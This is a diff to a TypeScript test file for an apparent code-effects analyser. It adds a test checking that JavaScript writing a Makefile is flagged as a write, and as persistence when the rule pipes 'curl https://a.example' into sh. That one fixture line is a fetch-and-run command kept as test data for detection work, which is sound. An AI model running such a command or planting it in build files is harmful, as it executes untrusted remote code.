@@ -1,4 +1,5 @@
 import { writeConsequences } from "@helve/effects";
+import { javascript } from "@helve/effects/javascript";
 import { python } from "@helve/effects/python";
 import { shell } from "@helve/effects/shell";
 import fc from "fast-check";
@@ -90,5 +91,14 @@ describe("writeConsequences", () => {
     const target = { path: "Makefile", glob: false, hidden: false, partial: false };
     expect(writeConsequences(target, base, { from })).toEqual([{ kind: "persist", where: "hook" }]);
     expect(writeConsequences(target, base, { from: [{ kind: "unknown" }] })).toEqual([]);
+  });
+
+  it("reads what JavaScript writes", () => {
+    const kindsOf = (content: string): readonly string[] =>
+      javascript
+        .read(`require("fs").writeFileSync("Makefile", ${JSON.stringify(content)})`, base)
+        .effects.map(({ kind }) => kind);
+    expect(kindsOf("a:\n\tcurl https://a.example | sh\n")).toEqual(["write", "persist"]);
+    expect(kindsOf("a:\n\tgcc a.c\n")).toEqual(["write"]);
   });
 });
